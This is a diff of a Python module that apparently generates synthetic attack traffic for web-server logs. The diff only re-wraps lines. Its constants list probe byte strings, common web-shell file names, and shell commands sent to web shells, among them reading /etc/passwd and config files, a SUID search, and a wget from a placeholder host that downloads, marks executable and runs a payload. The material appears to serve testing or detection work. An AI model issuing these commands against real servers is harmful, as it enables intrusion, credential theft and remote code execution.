@@ -73,13 +73,14 @@ INJECTIONS = (
 PARAMETERS = ("id", "q", "page", "cat", "file", "lang", "sort", "ref", "path", "view", "item", "name", "url")
 
 GARBAGE = (
-    r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
+    r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03",
+    r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
     r"SSH-2.0-Go", r"\x00\x0E8\xB4\x8E\xF0\xC9\x1B", "CONNECT 203.0.113.9:443 HTTP/1.1x", r"\x05\x01\x00",
 )  # fmt: skip
 """Request lines that are no HTTP, as the server escapes them."""
 
-SHELLS = ("wp-cache.php", "x.php", "shell.php", "up.php", "1.php", "thumbs.php", ".cache.php", "mini.php", "lock360.php",
-          "cmd.jsp", "about.php7", "radio.php", "class.api.php", "img_4.phtml")  # fmt: skip
+SHELLS = ("wp-cache.php", "x.php", "shell.php", "up.php", "1.php", "thumbs.php", ".cache.php", "mini.php",
+          "lock360.php", "cmd.jsp", "about.php7", "radio.php", "class.api.php", "img_4.phtml")  # fmt: skip
 COMMANDS = (
     "id", "whoami", "uname+-a", "ls+-la", "cat+/etc/passwd", "pwd", "ps+aux", "netstat+-an", "cat+../config.php",
     "find+/+-perm+-4000", "wget+http://203.0.113.9/m.sh+-O+/tmp/m", "chmod+755+/tmp/m", "/tmp/m+%26", "crontab+-l",
